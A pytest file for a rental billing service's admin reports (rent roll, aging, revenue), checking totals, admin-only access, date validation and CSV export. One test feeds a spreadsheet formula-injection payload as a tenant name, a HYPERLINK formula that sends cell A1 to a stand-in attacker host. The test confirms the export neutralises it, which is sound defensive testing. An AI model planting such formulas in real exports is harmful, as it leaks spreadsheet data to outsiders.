"""Admin reports add up: rent roll balance = open invoices, aging total = rent roll total, revenue = in - out."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

from billing.rules import anniversary
from jeshkit.clock import nairobi_today
from jeshstack.testing import wait_for


def test_rent_roll_aging_and_revenue_add_up(start_billing):
    billing = start_billing()
    billing.bus.publish("UserRegistered", {"user_id": 5, "email": "a@example.co.ke", "name": "Achieng Otieno",
                                           "role": "user", "phone": "254712345678"})
    billing.bus.publish("UnitCreated", {"unit_id": 1, "unit_number": "A-101", "size": "small",
                                        "monthly_price": 3000, "bookable": True})
    start = nairobi_today()
    billing.confirm_rental(61, start, rate=3000)                 # will be 40 days behind
    billing.confirm_rental(62, start, rate=5000, unit_id=2)      # will owe nothing
    billing.confirm_rental(63, start, rate=7000, unit_id=3)      # one invoice issued, not yet due
    due = anniversary(start, 1, start.day)
    billing.advance(61, due + timedelta(days=40))
    billing.advance(62, due + timedelta(days=1))
    billing.advance(63, due - timedelta(days=2))
    paid = billing.invoices(62)[1]
    billing.pay(62, paid["balance"], invoice_id=paid["id"], method="card")
    wait_for(lambda: billing.account(62)["balance"] == 0, what="62 paid")
    billing.bus.publish("RefundPaid", {"refund_id": 9, "booking_id": 99, "invoice_id": None, "user_id": 7,
                                       "amount": 1200, "method": "mpesa", "receipt": "RFD1"})
    wait_for(lambda: billing.rows("SELECT 1 FROM refunds WHERE refund_id = 9"), what="refund recorded")

    roll = billing.client.get("/api/billing/reports/rent-roll", headers=billing.admin).json()["data"]
    rows = {r["booking_id"]: r for r in roll}
    assert set(rows) == {61, 62, 63}
    open_total = sum(i["balance"] for b in (61, 62, 63) for i in billing.invoices(b) if i["status"] == "open")
    roll_balance = sum(r["balance"] for r in roll)
    assert roll_balance == open_total > 0
    assert (rows[61]["tenant_name"], rows[61]["unit_number"]) == ("Achieng Otieno", "A-101")
    assert rows[61]["days_past_due"] == 40 and rows[61]["delinquency_stage"] == "locked_out"
    assert rows[62]["balance"] == 0 and rows[63]["balance"] == 7000 and rows[63]["days_past_due"] == 0
    assert sum(r["monthly_rate"] for r in roll) == 15000

    aging = billing.client.get("/api/billing/reports/aging", headers=billing.admin).json()["data"]
    assert aging["totals"]["total"] == roll_balance
    by_rental = {r["booking_id"]: r for r in aging["rows"]}
    assert by_rental[63]["current"] == 7000
    assert by_rental[61]["31-60"] == 3500  # invoice 2, 40 days past due (with its late fee)
    assert by_rental[61]["1-30"] == sum(i["balance"] for i in billing.invoices(61)[2:])
    assert sum(aging["totals"][b] for b in ("current", "1-30", "31-60", "61-90", "90+")) == aging["totals"]["total"]

    today = nairobi_today()
    revenue = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
                                 params={"from": (today - timedelta(days=1)).isoformat(),
                                         "to": today.isoformat()}).json()["data"]
    collected = 3000 + 5000 + 7000 + paid["balance"]
    assert revenue["totals"] == {"collected": collected, "refunds": 1200, "net": collected - 1200}
    card = [r for r in revenue["rows"] if r["method"] == "card" and r["net"]]  # (yesterday: last month's, zeros)
    assert [(r["collected"], r["refunds"]) for r in card] == [(paid["balance"], 0)]
    assert sum(r["net"] for r in revenue["rows"]) == revenue["totals"]["net"]

    as_csv = billing.client.get("/api/billing/reports/rent-roll?format=csv", headers=billing.admin)
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert sum(int(r["balance"]) for r in table) == roll_balance
    aging_csv = list(csv.DictReader(io.StringIO(
        billing.client.get("/api/billing/reports/aging?format=csv", headers=billing.admin).text)))
    assert sum(int(r["total"]) for r in aging_csv) == aging["totals"]["total"]
    revenue_csv = billing.client.get("/api/billing/reports/revenue?format=csv", headers=billing.admin).text
    assert revenue_csv.splitlines()[0] == "month,method,collected,refunds,net"


def test_reports_are_for_admins_and_check_their_dates(start_billing):
    billing = start_billing()
    for path in ("rent-roll", "aging", "revenue"):
        assert billing.client.get(f"/api/billing/reports/{path}", headers=billing.owner(5)).status_code == 403
    for day in ("2026-13-01", "2026-W05-1", "2026-1-011"):  # not a day, or not written YYYY-MM-DD (an ISO week)
        bad = billing.client.get(f"/api/billing/reports/revenue?from={day}", headers=billing.admin)
        assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "from", day
    backwards = billing.client.get("/api/billing/reports/revenue?from=2026-05-01&to=2026-04-01",
                                   headers=billing.admin)
    assert backwards.status_code == 400
    assert billing.client.get("/api/billing/reports/aging?format=xml", headers=billing.admin).status_code == 400


def test_the_csv_reports_never_hand_a_spreadsheet_a_formula(start_billing):
    billing = start_billing()
    billing.bus.publish("UserRegistered", {"user_id": 5, "email": "a@example.co.ke", "role": "user",
                                           "name": '=HYPERLINK("http://evil.example/?"&A1,"Pay here")',
                                           "phone": "254712345678"})
    billing.bus.publish("UnitCreated", {"unit_id": 1, "unit_number": "@SUM(1+1)", "size": "small",
                                        "monthly_price": 3000, "bookable": True})
    wait_for(lambda: billing.rows("SELECT 1 FROM tenants WHERE user_id = 5"), what="tenant")
    wait_for(lambda: billing.rows("SELECT 1 FROM units WHERE unit_id = 1"), what="unit")
    start = nairobi_today()
    billing.confirm_rental(71, start, rate=3000)
    billing.advance(71, anniversary(start, 1, start.day) + timedelta(days=2))  # owing: in the aging report too

    for report in ("rent-roll", "aging"):
        text = billing.client.get(f"/api/billing/reports/{report}?format=csv", headers=billing.admin).text
        [row] = list(csv.DictReader(io.StringIO(text)))
        # Shown as text by the spreadsheet (the leading apostrophe), never run.
        assert row["tenant_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Pay here")', report
        assert row["unit_number"] == "'@SUM(1+1)", report
        assert int(row["balance" if report == "rent-roll" else "total"]) == 3000
    # The JSON keeps the names as they are.
    [json_row] = billing.client.get("/api/billing/reports/rent-roll", headers=billing.admin).json()["data"]
    assert (json_row["tenant_name"], json_row["unit_number"]) == (
        '=HYPERLINK("http://evil.example/?"&A1,"Pay here")', "@SUM(1+1)")


def test_the_revenue_report_has_every_month_of_its_range_with_zeros_where_nothing_moved(start_billing):
    """A chart or a spreadsheet of the report skips no month: each month of the range has a row for each method money
    moved by in the range, zeros where it did not."""
    billing = start_billing()
    billing.pay(81, 2000, paid_at=datetime(2025, 1, 15, 9, tzinfo=UTC))
    billing.pay(82, 3000, method="card", paid_at=datetime(2025, 3, 3, 9, tzinfo=UTC))
    billing.pay(83, 4000, paid_at=datetime(2025, 6, 1, 9, tzinfo=UTC))  # after the range

    def revenue(**params: str) -> dict:
        r = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params=params)
        assert r.status_code == 200, r.text
        return dict(r.json()["data"])

    report = revenue(**{"from": "2024-12-20", "to": "2025-04-30"})
    assert [(r["month"], r["method"], r["collected"], r["refunds"], r["net"]) for r in report["rows"]] == [
        ("2024-12", "card", 0, 0, 0), ("2024-12", "mpesa", 0, 0, 0),
        ("2025-01", "card", 0, 0, 0), ("2025-01", "mpesa", 2000, 0, 2000),
        ("2025-02", "card", 0, 0, 0), ("2025-02", "mpesa", 0, 0, 0),
        ("2025-03", "card", 3000, 0, 3000), ("2025-03", "mpesa", 0, 0, 0),
        ("2025-04", "card", 0, 0, 0), ("2025-04", "mpesa", 0, 0, 0),
    ]
    assert report["totals"] == {"collected": 5000, "refunds": 0, "net": 5000}
    text = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
                              params={"from": "2024-12-20", "to": "2025-04-30", "format": "csv"}).text
    table = list(csv.DictReader(io.StringIO(text)))
    assert [(r["month"], r["method"], r["net"]) for r in table] == [
        (r["month"], r["method"], str(r["net"])) for r in report["rows"]]

    # No money at all in the range: still a row of zeros per month.
    empty = revenue(**{"from": "2023-02-10", "to": "2023-04-01"})
    assert [(r["month"], r["method"], r["net"]) for r in empty["rows"]] == [
        ("2023-02", "mpesa", 0), ("2023-03", "mpesa", 0), ("2023-04", "mpesa", 0)]
    # One day: its month.
    assert [r["month"] for r in revenue(**{"from": "2025-03-03", "to": "2025-03-03"})["rows"]] == ["2025-03"]


def test_the_revenue_report_s_from_defaults_to_a_year_before_its_to(start_billing):
    """`to` alone (the revenue up to a day) is a year up to it, not a 400 for a `to` before the default `from`."""
    billing = start_billing()
    billing.pay(84, 2500, paid_at=datetime(2025, 1, 15, 9, tzinfo=UTC))
    r = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params={"to": "2025-06-30"})
    assert r.status_code == 200, r.text
    report = r.json()["data"]
    assert (report["from"], report["to"]) == ((date(2025, 6, 30) - timedelta(days=365)).isoformat(), "2025-06-30")
    assert report["totals"]["collected"] == 2500 and len(report["rows"]) == 13
    # The earliest day a date can name: no 500.
    early = billing.client.get("/api/billing/reports/revenue", headers=billing.admin, params={"to": "0001-03-01"})
    assert early.status_code == 200 and early.json()["data"]["from"] == "0001-01-01"
    # A range of more months than a report holds: 400, field to.
    wide = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
                              params={"from": "0001-01-01", "to": "9999-12-31"})
    assert wide.status_code == 400 and wide.json()["errors"][0]["field"] == "to"
    hundred_years = billing.client.get("/api/billing/reports/revenue", headers=billing.admin,
                                       params={"from": "2000-01-01", "to": "2099-12-31"})
    assert hundred_years.status_code == 200 and len(hundred_years.json()["data"]["rows"]) == 1200
